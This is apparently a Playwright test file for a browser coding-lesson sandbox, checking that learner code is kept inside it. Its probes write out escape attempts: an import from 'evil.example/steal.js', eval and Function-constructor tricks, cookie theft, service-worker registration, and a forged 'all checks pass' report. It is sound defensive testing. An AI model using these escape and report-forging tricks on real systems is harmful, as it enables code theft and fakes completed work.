/**
 * The sandbox's boundary, beyond e2e/sandbox.spec.ts (network, storage, DOM, postMessage, Worker) and
 * e2e/share.spec.ts (code from a link): dynamic import() of a URL, through the transpiler and around it; workers
 * that would outlive the run; cookies; a forged "all checks pass" report; and the worker's own messages
 * poisoned with garbage. Issue 9; SECURITY.md lists every case.
 */
import type { Page } from "@playwright/test";
import { pasteIntoEditor } from "./editorHelpers.ts";
import { expect, test } from "./fixtures.ts";

test.use({ permissions: ["clipboard-read", "clipboard-write"] });

/** The page's storage, for code passed to page.evaluate (it runs in the browser; this file type-checks in Node). */
declare const localStorage: { getItem(key: string): string | null };

/** Line 2 of the probe file, where `prelude` goes. */
const PRELUDE_LINE = 2;

async function openUpload(page: Page): Promise<void> {
  await page.goto("/lessons/upload");
  await expect(page.getByTestId("code-editor")).toContainText("leak-lab/runtime");
}

/** Pastes `prelude` as line 2 of a file with an empty StorageService, and presses Run. */
async function runWithPrelude(page: Page, prelude: string): Promise<void> {
  await openUpload(page);
  await pasteIntoEditor(page, `// probe\n${prelude}\nexport class StorageService {}\n`, "// probe");
  await page.getByRole("button", { name: "Run", exact: true }).click();
}

async function expectPageResponsive(page: Page): Promise<void> {
  await expect(page.getByRole("heading", { level: 1, name: "Fix the upload leak" })).toBeVisible();
  await page.getByRole("textbox", { name: "Code editor" }).focus();
  await page.keyboard.press("ControlOrMeta+End");
  await page.keyboard.type("// still here");
  await expect(page.getByTestId("code-editor")).toContainText("// still here");
}

test.describe("the sandbox's boundary", () => {
  test("dynamic import() of a URL is refused with an error at its line, and nothing is fetched", async ({
    page,
  }) => {
    await runWithPrelude(page, 'void import("https://evil.example/steal.js");');
    await expect(page.locator(".run-error")).toHaveText(
      `storage.ts:${PRELUDE_LINE}: panic: cannot import "https://evil.example/steal.js": only "leak-lab/runtime" is available (a promise rejected and nothing awaited it)`,
    );
    // The fixture fails the test if any request left 127.0.0.1.
  });

  // Code from text would pass by the transpiler (which turns import() into the sandbox's require) and fetch:
  // lockDown() takes away eval, Function and every function kind's constructor.
  test("an import() hidden from the transpiler in eval'd code is refused, and nothing is fetched", async ({
    page,
  }) => {
    const requests: string[] = [];
    page.context().on("request", (request) => {
      if (request.url().includes("/steal")) requests.push(request.url());
    });
    // Same host, another port: a URL the fixture lets through, so only the sandbox can stop it.
    await runWithPrelude(page, `void new Function("return import('http://127.0.0.1:9/steal.js')")();`);
    await expect(page.locator(".run-error")).toContainText(
      `storage.ts:${PRELUDE_LINE}: building code from text (eval, new Function) is not available to learner code`,
    );
    // Nor through the other doors: an async function's constructor and the global eval.
    for (const [index, door] of [
      `void (async () => {}).constructor("return import('http://127.0.0.1:9/steal.js')")();`,
      `void eval("import('http://127.0.0.1:9/steal.js')");`,
    ].entries()) {
      await pasteIntoEditor(
        page,
        `// door ${index}\n${door}\nexport class StorageService {}\n`,
        `// door ${index}`,
      );
      await page.getByRole("button", { name: "Run", exact: true }).click();
      await expect(page.locator(".run-error")).toContainText(`storage.ts:2: building code from text`);
    }
    expect(requests).toEqual([]);
  });

  for (const attempt of [
    {
      name: "WebSocket",
      code: "new WebSocket('ws://127.0.0.1:9/');",
      error: "WebSocket is not a constructor",
    },
    { name: "EventSource", code: "new EventSource('/events');", error: "EventSource is not a constructor" },
    { name: "importScripts", code: "importScripts('/steal.js');", error: "importScripts is not a function" },
  ]) {
    test(`${attempt.name} is out of reach, with an error at its line`, async ({ page }) => {
      await runWithPrelude(page, attempt.code);
      await expect(page.locator(".run-error")).toHaveText(`storage.ts:${PRELUDE_LINE}: ${attempt.error}`);
    });
  }

  for (const attempt of [
    {
      name: "a shared worker",
      code: "new SharedWorker('x.js');",
      error: "SharedWorker is not a constructor",
    },
    {
      name: "a service worker",
      code: "(navigator as unknown as { serviceWorker: { register(url: string): void } }).serviceWorker.register('/sw.js');",
      error: /Cannot read properties of undefined \(reading 'register'\)/,
    },
  ]) {
    test(`${attempt.name} that would outlive the run cannot be started`, async ({ page }) => {
      await runWithPrelude(page, attempt.code);
      await expect(page.locator(".run-error")).toContainText(attempt.error);
      await expect(page.locator(".run-error")).toContainText(`storage.ts:${PRELUDE_LINE}`);
    });
  }

  test("cookies are out of reach: no document, no cookie store", async ({ page }) => {
    await runWithPrelude(
      page,
      'const jar = (self as unknown as { cookieStore?: unknown }).cookieStore; if (jar !== undefined) throw new Error("cookie store reachable"); document.cookie = "stolen=1";',
    );
    await expect(page.locator(".run-error")).toHaveText(
      `storage.ts:${PRELUDE_LINE}: document is not defined`,
    );
    expect(await page.context().cookies()).toEqual([]);
  });

  test("a forged passing report cannot mark the lesson complete", async ({ page }) => {
    await openUpload(page);
    const forged = `// probe\npostMessage({ type: "checked", runId: 1, report: { status: "pass", tests: [], leaks: [], leakReport: "" } });\nexport class StorageService {}\n`;
    await pasteIntoEditor(page, forged, "// probe");
    const panel = page.getByRole("region", { name: "Check my fix" });
    await panel.getByRole("button", { name: "Check my fix" }).click();
    await expect(panel.getByRole("alert")).toContainText(
      "Your code could not run: postMessage is not a function",
    );
    await expect(panel.getByRole("button", { name: `Go to line ${PRELUDE_LINE}` })).toBeVisible();
    await expect(panel.locator(".lesson-complete")).toHaveCount(0);
    await expect(page.getByText(/All lessons \(0 of \d+ complete\)/)).toBeVisible();
    expect(await page.evaluate(() => localStorage.getItem("leak-lab:progress") ?? "")).not.toContain(
      "upload",
    );
  });

  test("garbage in the worker's own messages (its arrays poisoned) is refused and the page carries on", async ({
    page,
  }) => {
    // Learner code cannot post, but it can poison what the worker's code posts: every sample batch and list
    // the worker slices becomes garbage, which the page's parseFromWorker refuses.
    await runWithPrelude(
      page,
      'import { go, time } from "leak-lab/runtime"; Array.prototype.slice = function () { return [{ t: "garbage" }, null, 42]; } as never; go(async () => { for (;;) await time.sleep(1000); });',
    );
    await expect(page.getByTestId("run-status")).toHaveText(/running|finished/);
    await expect(page.getByTestId("handle-count")).toHaveText("0");
    await page.getByRole("button", { name: "Stop" }).click();
    await expect(page.getByTestId("run-status")).toHaveText("finished");
    await expectPageResponsive(page);
  });
});
